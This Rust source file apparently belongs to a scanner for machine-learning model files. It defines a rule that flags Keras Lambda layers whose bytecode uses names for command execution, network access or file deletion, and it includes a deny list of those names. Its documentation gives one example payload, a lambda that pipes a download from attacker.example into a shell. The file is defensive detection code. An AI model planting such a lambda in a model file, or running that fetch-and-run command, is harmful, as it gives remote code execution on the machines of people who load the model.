use rampart_core::declare_rule;

use crate::context::Ctx;
use crate::formats::keras::KerasIr;

declare_rule! {
    /// ## What it does
    /// Reports a Keras `Lambda` layer whose bytecode uses names that execute commands
    /// or code, import modules, or touch files and the network (`os`, `system`,
    /// `__import__`, `eval`, `exec`, `subprocess`, `open`, `socket`, …).
    ///
    /// ## Why is this dangerous?
    /// The function runs when the model is loaded or called. Arithmetic lambdas never
    /// need these names.
    ///
    /// ## Example
    /// `lambda x: __import__('os').system('curl https://attacker.example | sh') or x`
    ///
    /// ## Remediation
    /// Do not load the model.
    ///
    /// ## False positives
    /// A lambda that legitimately reads a file (rare, and better moved out of the model).
    ///
    /// ## References
    /// CVE-2024-3660; MITRE ATLAS AML.T0011.000; guidelines SD-3, DV-1.
    pub(crate) static RULE = {
        code: "KRS002",
        name: "lambda-dangerous-code",
        severity: Critical,
        guidelines: [Sd3, Dv1],
        summary: "Keras Lambda bytecode uses names that execute commands or code",
    }
}

const DANGEROUS: &[&str] = &[
    "os",
    "system",
    "popen",
    "subprocess",
    "Popen",
    "check_output",
    "run_path",
    "spawn",
    "eval",
    "exec",
    "compile",
    "__import__",
    "import_module",
    "importlib",
    "builtins",
    "__builtins__",
    "getattr",
    "open",
    "socket",
    "urllib",
    "urlopen",
    "requests",
    "pty",
    "shutil",
    "rmtree",
    "remove",
    "unlink",
    "marshal",
    "pickle",
    "ctypes",
    "environ",
    "webbrowser",
    "runpy",
    "globals",
];

pub(crate) fn check(ir: &KerasIr, ctx: &mut Ctx<'_>) {
    for l in &ir.lambdas {
        let bad: Vec<&str> = l
            .names
            .iter()
            .map(String::as_str)
            .filter(|n| DANGEROUS.contains(n) || n.split('.').any(|s| DANGEROUS.contains(&s)))
            .collect();
        if !bad.is_empty() {
            ctx.report(
                &RULE,
                format!(
                    "Lambda layer {:?} bytecode uses {}",
                    l.layer,
                    bad.join(", ")
                ),
                None,
                Some(l.layer.clone()),
            );
        }
    }
}
